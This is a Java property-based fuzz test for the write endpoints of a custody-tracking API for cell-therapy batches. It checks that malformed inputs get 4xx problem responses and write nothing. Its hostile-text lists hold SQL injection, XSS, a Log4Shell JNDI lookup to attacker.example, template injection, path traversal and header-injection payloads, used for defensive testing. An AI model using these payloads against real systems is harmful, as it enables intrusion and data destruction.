package org.vein2vein.platform.problem;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

import org.vein2vein.platform.security.Roles;
import org.vein2vein.site.domain.Site;
import org.vein2vein.testing.Api;
import org.vein2vein.testing.Database;
import org.vein2vein.testing.Tokens;

/**
 * Property: whatever a client sends to a write endpoint (batches, steps, sites), a wrong request
 * is answered with a 4xx problem+json, never a 5xx, and writes nothing; hostile text inside stage
 * data, which is free JSON, is recorded exactly as sent. The inputs are generated from a seed that each run prints;
 * rerun one with {@code -Dhostile.seed=<seed>}. Every case is a mutation of a valid body that
 * makes it invalid by construction, except those marked as valid stage data.
 */
@QuarkusTest
class HostileInputPropertyTest {

    private static final long SEED = Long.getLong("hostile.seed", 20_261_125L);
    private static final int CASES_PER_ENDPOINT = 250;
    private static final String BATCHES = "/api/v1/batches";
    private static final String SITES = "/api/v1/sites";
    private static final List<String> IMPLEMENTATION_DETAILS = List.of("java.", "jakarta.", "com.fasterxml",
            "org.vein2vein", "io.quarkus", "io.vertx", "org.jboss", "org.hibernate", "Exception", "\tat ");

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final AtomicInteger CLIENTS = new AtomicInteger();

    @TestFactory
    Stream<DynamicTest> registeringABatch() {
        Generator generator = new Generator(SEED, Endpoint.REGISTRATION);
        System.out.printf("Hostile registrations from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(BATCHES))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> loggingAStep() {
        // Repeated collections are allowed, so a valid step leaves the batch able to take the next one.
        String coi = Api.registerAutologous("PSN-HOSTILE-01");
        Api.logStep(coi, "COLLECTED").statusCode(201);
        Generator generator = new Generator(SEED, Endpoint.STEP);
        System.out.printf("Hostile steps from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(coi))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> creatingASite() {
        Generator generator = new Generator(SEED, Endpoint.SITE_CREATION);
        System.out.printf("Hostile site creations from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(SITES))
                .map(HostileInputPropertyTest::asTest);
    }

    @TestFactory
    Stream<DynamicTest> changingASite() {
        // Every case is refused, so the site stays at version 1, the If-Match its valid cases send.
        String code = "SITE-HOSTILE-" + System.nanoTime();
        Api.as(Tokens.token("admin-hostile", Roles.ADMIN, "VEIN2VEIN", List.of())).contentType("application/json")
                .body(Map.of("code", code, "name", "Hostile input test site", "kind", "STORAGE",
                        "organisation", "VEIN2VEIN"))
                .post(SITES).then().statusCode(201);
        Generator generator = new Generator(SEED, Endpoint.SITE_CHANGE);
        System.out.printf("Hostile site changes from seed %d (rerun with -Dhostile.seed=%d)%n", SEED, SEED);
        return IntStream.range(0, CASES_PER_ENDPOINT).mapToObj(i -> generator.next(code))
                .map(HostileInputPropertyTest::asTest);
    }

    private static DynamicTest asTest(Case hostile) {
        return dynamicTest(hostile.name(), () -> {
            WrittenRows before = WrittenRows.now();
            Response response = hostile.send();
            String answer = response.asString();
            String context = hostile.name() + " (seed " + SEED + ")\nsent " + hostile.excerpt() + "\nanswered "
                    + response.statusCode() + " " + excerpt(answer);
            if (hostile.valid()) {
                assertRecordedExactly(hostile, response, before.ledger(), context);
                return;
            }
            assertThat(response.statusCode()).as(context).isBetween(400, 499);
            assertThat(response.contentType()).as(context).startsWith(ProblemResponses.MEDIA_TYPE);
            JsonNode problem = JSON.readTree(answer);
            assertThat(problem.path("type").asText()).as(context).startsWith("urn:vein2vein:problem:");
            assertThat(problem.path("status").asInt()).as(context).isEqualTo(response.statusCode());
            assertThat(answer).as(context).doesNotContain(IMPLEMENTATION_DETAILS).hasSizeLessThan(4_000);
            assertThat(WrittenRows.now()).as("nothing written by " + context).isEqualTo(before);
        });
    }

    /** Valid stage data, however hostile its text: one event, stored and served back as sent. */
    private static void assertRecordedExactly(Case hostile, Response response, LedgerRowCounts before,
            String context) throws Exception {
        assertThat(response.statusCode()).as(context).isEqualTo(201);
        LedgerRowCounts after = LedgerRowCounts.now();
        assertThat(after).as(context).isEqualTo(
                new LedgerRowCounts(before.batches(), before.custodyEvents() + 1, before.outboxMessages() + 1));
        JsonNode served = JSON.readTree(Api.given().get(response.header("Location")).asString());
        assertThat(served.get("data")).as(context).isEqualTo(hostile.data());
    }

    private static String excerpt(String text) {
        return text.length() <= 300 ? text : text.substring(0, 300) + "... (" + text.length() + " characters)";
    }

    /** Rows in every table a write endpoint could write to. */
    record WrittenRows(LedgerRowCounts ledger, long sites, long siteRevisions) {

        static WrittenRows now() {
            return new WrittenRows(LedgerRowCounts.now(), Database.count("SELECT count(*) FROM site"),
                    Database.count("SELECT count(*) FROM site_revision"));
        }
    }

    /** A write endpoint: its method and the role that may call it, so that its cases get past security. */
    enum Endpoint {
        REGISTRATION("POST", Roles.TECHNICIAN), STEP("POST", Roles.TECHNICIAN),
        SITE_CREATION("POST", Roles.ADMIN), SITE_CHANGE("PUT", Roles.ADMIN);

        private final String method;
        private final String role;

        Endpoint(String method, String role) {
            this.method = method;
            this.role = role;
        }

        boolean isSite() {
            return this == SITE_CREATION || this == SITE_CHANGE;
        }
    }

    /**
     * One generated request. {@code data} is the stage data of a case expected to be recorded;
     * {@code ifMatch} is null when the case sends none.
     */
    record Case(Endpoint endpoint, String name, String path, byte[] body, String ifMatch, boolean valid,
            JsonNode data) {

        /** Each case as a caller of its own: the rate limit, tested in RateLimitTest, is not under test here. */
        Response send() {
            String caller = Tokens.token("hostile-" + CLIENTS.incrementAndGet(), endpoint.role,
                    Tokens.TECHNICIAN_ORGANISATION, endpoint.role.equals(Roles.TECHNICIAN) ? Tokens.TEST_SITES
                            : List.of());
            RequestSpecification request = Api.as(caller).urlEncodingEnabled(false)
                    .contentType("application/json").body(body);
            if (ifMatch != null) {
                request.header("If-Match", ifMatch);
            }
            return request.request(endpoint.method, path);
        }

        String excerpt() {
            return HostileInputPropertyTest.excerpt(new String(body, StandardCharsets.UTF_8)) + " to " + path
                    + (ifMatch == null ? "" : " with If-Match " + ifMatch);
        }
    }

    /**
     * Composes mutations of a valid body. Each structural mutation makes the body invalid, and none
     * restores a field it did not break, so any composition of them stays invalid; one byte-level
     * mutation may follow.
     */
    static final class Generator {

        /** Never a valid identifier, product code, enum name or instant: each has a character none allows, or is far too long. */
        static final List<String> HOSTILE_TEXT = List.of(
                "' OR '1'='1", "1; DROP TABLE batch; --", "\" OR 1=1 --", "SITE-LYON-01' --",
                "'; DELETE FROM custody_event; --", "x' UNION SELECT * FROM outbox_message --", "%' AND 1=1 --",
                "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
                "${jndi:ldap://attacker.example/a}", "#{7*7}", "{{7*7}}", "%s%s%s%n", "../../etc/passwd",
                "SITE-LYON-01\r\nX-Injected: yes", "PSN\u0000-7F3K", "\u0000", "\u202EPSN-7F3K-22", "PSN\u200B-7F3K",
                "\uFEFFPSN-7F3K", "ＳＩＴＥ-ＬＹＯＮ-01", "S\u0406TE-LYON-01", "PSN-\uD83D\uDE00-22", "e\u0301\u0301\u0301",
                "AUTOLOGOUS ", " COLLECTED", "", " ", "\t", "SITE LYON 01", "2026-11-25 09:30:00", "V2V7K3Q9P2XRTB?x=1", "PSN/7F3K",
                "A".repeat(65), "P".repeat(10_000), "S".repeat(200_000), "Z".repeat(600_000));
        static final List<String> SERVER_OWNED_ON_REGISTRATION = List.of("coi", "stage", "sequence", "actor",
                "operator", "hash", "previousHash", "recordedAt", "eventId", "ledgerSequence", "ledgerHeadHash",
                "registeredAt", "updatedAt", "allowedNextStages", "resumeStage");
        static final List<String> SERVER_OWNED_ON_STEPS = List.of("coi", "sequence", "actor", "operator", "hash",
                "previousHash", "recordedAt", "eventId", "type", "ledgerSequence");
        static final List<String> SERVER_OWNED_ON_SITE_CREATION = List.of("version", "active", "createdAt",
                "updatedAt", "revisedBy", "revisedAt", "actor", "etag");
        static final List<String> SERVER_OWNED_ON_SITE_CHANGE = List.of("code", "version", "createdAt", "updatedAt",
                "revisedBy", "revisedAt", "actor", "etag");
        /** The hostile texts that are not a valid site name either: a name may hold spaces, "SITE LYON 01" is one. */
        static final List<String> HOSTILE_NAMES = HOSTILE_TEXT.stream().filter(text -> !text.matches(Site.NAME))
                .toList();
        /** The version the site under test stays at; the valid If-Match of every site change. */
        static final String SITE_ETAG = "\"1\"";
        static final List<String> UNKNOWN_NAMES = List.of("__proto__", "constructor", "$where", "Stage",
                "subjectreference", "site ", "\u0000", "", "data.volumeMl", "stage\u200B", "\uD83D\uDE00",
                "'; DROP TABLE batch; --", "<script>");
        static final List<String> BAD_NUMBER_TOKENS = List.of("NaN", "Infinity", "-Infinity", "undefined",
                "0x1F", "01", ".5", "+1", "-", "1e", "TRUE", "nil");
        static final List<String> CHECK_CHARACTERS = List.of("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ*".split(""));
        /** Stands in a JSON tree for text it cannot hold, written into the serialized body afterwards. */
        private static final String RAW = "@@raw-%d@@";

        static {
            for (String text : HOSTILE_TEXT) {
                if (text.matches("[A-Za-z0-9._:-]{1,64}") || text.matches("\\d{4}-\\d\\d-\\d\\dT.*Z")) {
                    throw new IllegalStateException("not hostile, could be valid: " + text);
                }
            }
        }

        private final SplittableRandom random;
        private final Endpoint endpoint;
        private final List<String> rawTexts = new ArrayList<>();
        private int count;

        Generator(long seed, Endpoint endpoint) {
            this.random = new SplittableRandom(seed);
            this.endpoint = endpoint;
        }

        /**
         * The next case, for {@code target}: the path to post to, the COI of the batch to log steps
         * on, or the code of the site to change.
         */
        Case next(String target) {
            count++;
            String path = switch (endpoint) {
                case REGISTRATION, SITE_CREATION -> target;
                case STEP -> BATCHES + "/" + target + "/steps";
                case SITE_CHANGE -> SITES + "/" + target;
            };
            if (endpoint == Endpoint.SITE_CHANGE) {
                int kind = random.nextInt(10);
                if (kind == 0) {
                    return unknownOrMalformedCode(target);
                }
                if (kind <= 2) {
                    return hostileIfMatch(path);
                }
            }
            if (endpoint == Endpoint.STEP) {
                int kind = random.nextInt(10);
                if (kind == 0) {
                    return validHostileData(path);
                }
                if (kind == 1) {
                    return corruptedCoi(target);
                }
                if (kind == 2) {
                    return hostileIfMatch(path);
                }
            }
            ObjectNode body = validBody();
            List<String> applied = new ArrayList<>();
            rawTexts.clear();
            int mutations = 1 + random.nextInt(3);
            for (int i = 0; i < mutations; i++) {
                applied.add(mutate(body));
            }
            String text = body.toString();
            for (int i = 0; i < rawTexts.size(); i++) {
                text = text.replace("\"" + RAW.formatted(i) + "\"", rawTexts.get(i));
            }
            byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
            if (random.nextInt(4) == 0) {
                Mutated mutated = mutateBytes(bytes, body);
                bytes = mutated.bytes();
                applied.add(mutated.description());
            }
            return new Case(endpoint, name(applied), path, bytes, endpoint == Endpoint.SITE_CHANGE ? SITE_ETAG : null,
                    false, null);
        }

        private ObjectNode validBody() {
            ObjectNode body = JsonNodeFactory.instance.objectNode();
            if (endpoint == Endpoint.SITE_CREATION) {
                return body.put("code", "SITE-HOSTILE-" + random.nextInt(1000))
                        .put("name", "Hostile input test site").put("kind", "COLLECTION").put("organisation", "HOSP-LYON");
            }
            if (endpoint == Endpoint.SITE_CHANGE) {
                return body.put("name", "Hostile input test site, renamed").put("kind", "TREATMENT")
                        .put("organisation", "HOSP-LYON").put("active", random.nextBoolean());
            }
            if (endpoint == Endpoint.REGISTRATION) {
                boolean autologous = random.nextBoolean();
                return body.put("type", autologous ? "AUTOLOGOUS" : "ALLOGENEIC")
                        .put("subjectReference", "PSN-HOSTILE-" + random.nextInt(1000))
                        .put("productCode", autologous ? "CART-GD2-AUTO" : "CART-B7H3-ALLO")
                        .put("collectionSite", "SITE-LYON-01");
            }
            body.put("stage", "COLLECTED").put("occurredAt", now()).put("site", "SITE-LYON-01");
            body.putObject("data").put("volumeMl", 210);
            return body;
        }

        private List<String> fields() {
            return switch (endpoint) {
                case REGISTRATION -> List.of("type", "subjectReference", "productCode", "collectionSite");
                case STEP -> List.of("stage", "occurredAt", "site", "data");
                case SITE_CREATION -> List.of("code", "name", "kind", "organisation");
                case SITE_CHANGE -> List.of("name", "kind", "organisation", "active");
            };
        }

        private List<String> serverOwned() {
            return switch (endpoint) {
                case REGISTRATION -> SERVER_OWNED_ON_REGISTRATION;
                case STEP -> SERVER_OWNED_ON_STEPS;
                case SITE_CREATION -> SERVER_OWNED_ON_SITE_CREATION;
                case SITE_CHANGE -> SERVER_OWNED_ON_SITE_CHANGE;
            };
        }

        /** Breaks the body in one way, and says how. */
        private String mutate(ObjectNode body) {
            String field = pick(fields());
            boolean data = field.equals("data");
            switch (random.nextInt(9)) {
                case 0 -> {
                    JsonNode wrong = wrongType(data, field.equals("active"));
                    body.set(field, wrong);
                    return field + " of wrong type " + wrong.getNodeType();
                }
                case 1 -> {
                    String text = pick(field.equals("name") ? HOSTILE_NAMES : HOSTILE_TEXT);
                    body.put(field, text);
                    return field + " = hostile text (" + text.length() + " chars)";
                }
                case 2 -> {
                    body.putNull(field);
                    return field + " = null";
                }
                case 3 -> {
                    body.remove(field);
                    return "without " + field;
                }
                case 4 -> {
                    String owned = pick(serverOwned());
                    body.set(owned, anyValue());
                    return "server-owned " + owned;
                }
                case 5 -> {
                    String unknown = pick(UNKNOWN_NAMES);
                    body.set(unknown, anyValue());
                    return "unknown property '" + unknown + "'";
                }
                case 6 -> {
                    int depth = data ? 100 + random.nextInt(5_000) : 1 + random.nextInt(5_000);
                    body.put(field, raw("{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
                    return field + " nested " + depth + " deep";
                }
                case 7 -> {
                    String token = pick(BAD_NUMBER_TOKENS);
                    body.put(field, raw(token));
                    return field + " = invalid JSON token " + token;
                }
                default -> {
                    body.put(field, raw(data ? "{\"notes\": \"\\ud800\"}" : "\"\\udc00-lone\""));
                    return field + " with a lone surrogate";
                }
            }
        }

        private String raw(String text) {
            rawTexts.add(text);
            return RAW.formatted(rawTexts.size() - 1);
        }

        private JsonNode wrongType(boolean forData, boolean forBoolean) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            List<JsonNode> values = new ArrayList<>(List.of(nodes.numberNode(0), nodes.numberNode(-1),
                    nodes.numberNode(Long.MAX_VALUE), nodes.numberNode(new BigDecimal("1e400")),
                    nodes.numberNode(3.14), nodes.booleanNode(true), nodes.booleanNode(false), nodes.arrayNode(),
                    nodes.arrayNode().add("SITE-LYON-01"), nodes.textNode("SITE-LYON-01")));
            if (!forData) {
                values.remove(values.size() - 1);
                values.add(nodes.objectNode());
                values.add(nodes.objectNode().put("value", "SITE-LYON-01"));
            }
            if (forBoolean) {
                values.removeIf(JsonNode::isBoolean);
                values.add(nodes.textNode("true"));
            }
            return pick(values);
        }

        private JsonNode anyValue() {
            return switch (random.nextInt(6)) {
                case 0 -> JsonNodeFactory.instance.textNode(pick(HOSTILE_TEXT.subList(0, 20)));
                case 1 -> JsonNodeFactory.instance.numberNode(random.nextInt(1, 100));
                case 2 -> JsonNodeFactory.instance.textNode("0".repeat(64));
                case 3 -> JsonNodeFactory.instance.objectNode().put("id", "admin-01").put("role", "qa")
                        .put("organisation", "VEIN2VEIN");
                case 4 -> JsonNodeFactory.instance.textNode("V2V7K3Q9P2XRTB");
                default -> JsonNodeFactory.instance.nullNode();
            };
        }

        private static ObjectNode nested(int depth) {
            ObjectNode root = JsonNodeFactory.instance.objectNode();
            ObjectNode current = root;
            for (int i = 1; i < depth; i++) {
                current = current.putObject("a");
            }
            current.put("a", 1);
            return root;
        }

        /** A byte-level mutation that no JSON reader may accept as the same, valid object. */
        private Mutated mutateBytes(byte[] bytes, ObjectNode body) {
            String text = new String(bytes, StandardCharsets.UTF_8);
            return switch (random.nextInt(8)) {
                case 0 -> {
                    int length = random.nextInt(bytes.length);
                    yield new Mutated(Arrays.copyOf(bytes, length), "truncated to " + length + " bytes");
                }
                case 1 -> {
                    int at = random.nextInt(bytes.length + 1);
                    byte[] invalid = pick(List.of(new byte[] { (byte) 0xFF }, new byte[] { (byte) 0xC0, (byte) 0x80 },
                            new byte[] { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, new byte[] { (byte) 0x80 }));
                    byte[] mutated = new byte[bytes.length + invalid.length];
                    System.arraycopy(bytes, 0, mutated, 0, at);
                    System.arraycopy(invalid, 0, mutated, at, invalid.length);
                    System.arraycopy(bytes, at, mutated, at + invalid.length, bytes.length - at);
                    yield new Mutated(mutated, "invalid UTF-8 at byte " + at);
                }
                case 2 -> {
                    String trailing = pick(List.of("}", "]", "x", " {}", " " + text, ",", "\u0000"));
                    yield utf8(text + trailing, "trailing content");
                }
                case 3 -> utf8("[" + text + "]", "wrapped in an array");
                case 4 -> utf8(text.replace('"', '\''), "single quotes");
                case 5 -> utf8("/* comment */" + text, "a comment");
                case 6 -> text.endsWith("}") ? utf8(text.substring(0, text.length() - 1) + ",}", "a trailing comma")
                        : utf8(text + "}", "an unbalanced brace");
                default -> {
                    if (body.isEmpty()) {
                        yield utf8("{,}", "an empty member");
                    }
                    String key = pick(iterableToList(body.fieldNames()));
                    yield utf8("{" + JsonNodeFactory.instance.textNode(key) + ":\"again\"," + text.substring(1),
                            "duplicate key " + key);
                }
            };
        }

        /** Valid stage data holding hostile text: recorded and served back exactly. */
        private Case validHostileData(String path) {
            ObjectNode data = JsonNodeFactory.instance.objectNode();
            int members = 1 + random.nextInt(5);
            for (int i = 0; i < members; i++) {
                String key = pick(List.of("notes", "' OR '1'='1", "<script>", "__proto__", "$where", "\u0000",
                        "\uD83D\uDE00", "", "\u202Ekey", "constructor"));
                switch (random.nextInt(4)) {
                    case 0 -> data.put(key, pick(HOSTILE_TEXT.subList(0, 30)));
                    case 1 -> data.put(key, random.nextLong(1L << 40, Long.MAX_VALUE));
                    case 2 -> data.set(key, nested(1 + random.nextInt(90)));
                    default -> data.set(key, JsonNodeFactory.instance.arrayNode().add(pick(HOSTILE_TEXT.subList(0, 30)))
                            .addNull().add(true));
                }
            }
            ObjectNode body = JsonNodeFactory.instance.objectNode().put("stage", "COLLECTED").put("occurredAt", now())
                    .put("site", "SITE-LYON-01");
            body.set("data", data);
            return new Case(endpoint, name(List.of("valid hostile data")), path, body.toString().getBytes(StandardCharsets.UTF_8),
                    null, true, data);
        }

        /** A valid step to a COI that is not the batch's: a typo is refused, a well-formed unknown one not found. */
        private Case corruptedCoi(String coi) {
            String last = coi.substring(coi.length() - 1);
            String corrupted = switch (random.nextInt(6)) {
                case 0 -> coi.substring(0, coi.length() - 1)
                        + pick(CHECK_CHARACTERS.stream().filter(c -> !c.equals(last)).toList());
                case 1 -> swappedNeighbours(coi);
                case 2 -> coi.toLowerCase(Locale.ROOT);
                case 3 -> coi + pick(CHECK_CHARACTERS);
                case 4 -> pick(List.of("V2V' OR '1'='1", "<script>", "V2V\u0406" + coi.substring(4), "\u0000", "..",
                        "V2V7K3Q9P2XRT%", "*"));
                default -> coi.substring(0, coi.length() - 2);
            };
            String path = BATCHES + "/" + URLEncoder.encode(corrupted, StandardCharsets.UTF_8).replace("+", "%20")
                    + "/steps";
            ObjectNode body = validBody();
            return new Case(endpoint, name(List.of("COI " + corrupted)), path, body.toString().getBytes(StandardCharsets.UTF_8),
                    null, false, null);
        }

        private String swappedNeighbours(String coi) {
            List<Integer> positions = IntStream.range(3, coi.length() - 1)
                    .filter(i -> coi.charAt(i) != coi.charAt(i + 1)).boxed().toList();
            int at = pick(positions);
            return coi.substring(0, at) + coi.charAt(at + 1) + coi.charAt(at) + coi.substring(at + 2);
        }

        /**
         * A valid step or site change under a condition that is malformed or cannot hold; a site
         * change also without one (null), which a change of reference data must have.
         */
        private Case hostileIfMatch(String path) {
            List<String> conditions = new ArrayList<>(List.of("\"999999\"", "\"0\"", "W/\"2\"", "garbage",
                    "\"2\", \"3\"", "\"-1\"", "\"99999999999999999999\"", "' OR '1'='1", "\"2"));
            if (endpoint == Endpoint.SITE_CHANGE) {
                conditions.addAll(Arrays.asList("W/" + SITE_ETAG, SITE_ETAG + ", \"2\"", "*", null));
            }
            String ifMatch = pick(conditions);
            return new Case(endpoint, name(List.of("If-Match " + ifMatch)), path,
                    validBody().toString().getBytes(StandardCharsets.UTF_8), ifMatch, false, null);
        }

        /** A valid change of another site: a code that is malformed is refused, a well-formed unknown one not found. */
        private Case unknownOrMalformedCode(String code) {
            String other = pick(List.of(code.toLowerCase(Locale.ROOT), code + "-2", code.substring(0, 2),
                    "SITE' OR '1'='1", "<script>", "S\u0406TE-HOSTILE", "..", "%00", "SITE HOSTILE", "A".repeat(65)));
            String path = SITES + "/" + URLEncoder.encode(other, StandardCharsets.UTF_8).replace("+", "%20");
            return new Case(endpoint, name(List.of("code " + other)), path,
                    validBody().toString().getBytes(StandardCharsets.UTF_8), SITE_ETAG, false, null);
        }

        private String name(List<String> applied) {
            return endpoint.name().toLowerCase(Locale.ROOT) + " #" + count + ": " + String.join(", ",
                    applied.stream().map(description -> description.length() > 80 ? description.substring(0, 80)
                            : description).toList());
        }

        private Mutated utf8(String text, String description) {
            return new Mutated(text.getBytes(StandardCharsets.UTF_8), description);
        }

        private <T> T pick(List<T> values) {
            return values.get(random.nextInt(values.size()));
        }

        private static String now() {
            return Instant.now().truncatedTo(ChronoUnit.MILLIS).toString();
        }

        private static <T> List<T> iterableToList(Iterator<T> iterator) {
            List<T> values = new ArrayList<>();
            iterator.forEachRemaining(values::add);
            return values;
        }

        private record Mutated(byte[] bytes, String description) {
        }
    }
}
